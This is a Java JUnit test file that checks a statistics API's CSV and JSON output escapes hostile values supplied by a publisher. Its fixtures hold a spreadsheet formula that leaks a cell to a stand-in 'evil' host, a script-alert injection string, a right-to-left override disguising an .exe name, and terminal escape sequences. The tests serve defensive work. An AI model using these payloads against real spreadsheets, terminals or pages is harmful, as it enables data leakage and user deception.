package org.tidemark.api.query;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.time.Instant;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.tidemark.series.BatchId;
import org.tidemark.series.Observation;
import org.tidemark.series.PublicationDate;
import org.tidemark.streams.state.FilledStores;
import org.tidemark.text.PlainText;

/** What a publisher wrote is shown, and obeyed by nobody who looks at the answer. */
class EscapesApiTest {
    private static final String FORMULA = "=HYPERLINK(\"http://evil/?x=\"&A1)";
    private static final String NOTE =
            "@SUM(1+1)\r\nline2\u001b[31mRED \u202Egnp.exe\u2028 \u007f <script>alert(1)</script> 😀";

    private final QueryFixture fixture = new QueryFixture();

    @BeforeEach
    void fill() {
        Observation plain = FilledStores.observation("DK", "2023", -5.5, "2024-05-31");
        BatchId batch = new BatchId("EUROSTAT", FORMULA, PublicationDate.parse("2024-05-31"), "f00d");
        fixture.stores.put(
                new Observation(
                        plain.figure(),
                        plain.value(),
                        null,
                        plain.unit(),
                        plain.basis(),
                        plain.status(),
                        batch,
                        0,
                        Instant.EPOCH,
                        NOTE),
                false);
    }

    @AfterEach
    void close() throws Exception {
        fixture.close();
    }

    @Test
    @DisplayName("R-escapes-in-csv: a spreadsheet that opens the answer runs nothing, and numbers stay numbers")
    void aSpreadsheetRunsNothing() {
        String csv = fixture.get("/api/v1/observations?format=csv").body();

        assertThat(csv.lines()).hasSize(2);
        assertThat(csv)
                .contains(",2023,-5.5,percent,")
                .contains(",\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1)\",")
                .contains(
                        ",'@SUM(1+1)  line2\uFFFD[31mRED \uFFFDgnp.exe  \uFFFD <script>alert(1)</script> 😀,2023-01-01,2023-12-31,month\n");
    }

    @Test
    @DisplayName("R-escapes-in-csv: JSON loses no character, and holds none that a terminal obeys")
    void jsonIsWholeAndPlain() throws Exception {
        String json = fixture.get("/api/v1/observations").body();

        assertThat(PlainText.isPlain(json)).isTrue();
        JsonNode row = new ObjectMapper().readTree(json).get("observations").get(0);
        assertThat(row.findValue("note").textValue()).isEqualTo(NOTE);
        assertThat(row.findValue("release").textValue()).isEqualTo(FORMULA);
    }

    @Test
    @DisplayName("R-escapes-in-csv: an error that repeats what was asked is plain too")
    void anErrorIsPlain() {
        for (String asked : new String[] {"%1b%5D0;owned%07", "%E2%80%AEx", "%C2%9B31m"}) {
            for (String format : new String[] {"json", "csv"}) {
                String said = fixture.get("/api/v1/estimates?format=" + format + "&economy=" + asked)
                        .body();

                assertThat(PlainText.isPlain(said.strip())).as(said).isTrue();
            }
        }
    }
}
